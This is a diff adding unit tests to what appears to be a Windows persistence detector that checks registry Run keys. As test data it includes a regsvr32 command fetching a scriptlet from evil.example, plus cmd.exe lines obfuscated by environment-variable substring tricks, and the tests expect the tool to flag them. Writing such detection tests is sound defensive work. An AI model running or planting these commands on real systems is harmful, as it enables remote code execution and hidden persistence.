@@ -134,6 +134,12 @@ TEST(RunKeys, ReportsWhatIsSuspicious) {
       {"x", "rundll32.exe C:\\Users\\Public\\x.dat,Run", "data_file_executed", Severity::medium},
       {"Windows Update", "C:\\ProgramData\\wu.exe", "borrowed_name", Severity::low},
       {"x", "C:\\Program Files\\Vendor\\agent.exe:evil.exe", "alternate_stream", Severity::medium},
+      {"x",
+       "C:\\Windows\\System32\\cmd.exe /c "
+       "C:\\Users\\Public\\%PROCESSOR_ARCHITECTURE:~-10,0%e.exe",
+       "obfuscated_command", Severity::medium},
+      {"x", "cmd.exe /c C:\\Users\\Public\\%NONE:~-10,0%e.exe", "obfuscated_command",
+       Severity::low},
       {"x", "regsvr32.exe /s /n /u /i:http://evil.example/x.sct scrobj.dll", "remote_target",
        Severity::medium},
   };
@@ -141,7 +147,7 @@ TEST(RunKeys, ReportsWhatIsSuspicious) {
     fake::FakeWindows windows = one_user();
     for (const auto* path : {"C:\\TMP\\p.exe", "C:\\Users\\alice\\AppData\\Roaming\\svchost.exe",
                              "C:\\Users\\Public\\x.dat", "C:\\ProgramData\\wu.exe",
-                             "C:\\Windows\\System32\\scrobj.dll"})
+                             "C:\\Windows\\System32\\scrobj.dll", "C:\\Users\\Public\\e.exe"})
       windows.program(path);
     windows.value(kUserRun, one.name, fake::sz(one.command));
     const ModuleRun run = run_module(modules::run_keys, windows);
@@ -149,6 +155,23 @@ TEST(RunKeys, ReportsWhatIsSuspicious) {
     const std::string summary = fake::summary_of(run.context->findings);
     EXPECT_EQ(run.context->findings[0].rule, "run_keys." + std::string{one.rule}) << summary;
     EXPECT_EQ(to_text(severity_of(run.context->findings[0])), to_text(one.severity)) << summary;
+  }
+}
+
+TEST(RunKeys, APartOfAVariableLeadsToTheFileAndIsNoStream) {
+  fake::FakeWindows windows = one_user();
+  windows.program("C:\\Users\\Public\\e.exe");
+  windows.value(kUserRun, "known",
+                fake::sz("cmd.exe /c C:\\Users\\Public\\%PROCESSOR_ARCHITECTURE:~-10,0%e.exe"));
+  windows.value(kUserRun, "unknown", fake::sz("cmd.exe /c C:\\Users\\Public\\%NONE:~-10,0%e.exe"));
+  const ModuleRun run = run_module(modules::run_keys, windows);
+  EXPECT_EQ(record_of(run, "known")["target"], "C:\\Users\\Public\\e.exe");
+  EXPECT_TRUE(run.context->has_collected("C:\\Users\\Public\\e.exe"));
+  ASSERT_EQ(run.context->findings.size(), 2u);
+  for (const auto& finding : run.context->findings) {
+    for (const auto& why : finding.why)
+      EXPECT_EQ(why.fact.find("stream"), std::string::npos) << why.fact;
+    EXPECT_EQ(std::count(finding.attack.begin(), finding.attack.end(), "T1027.010"), 1);
   }
 }
 
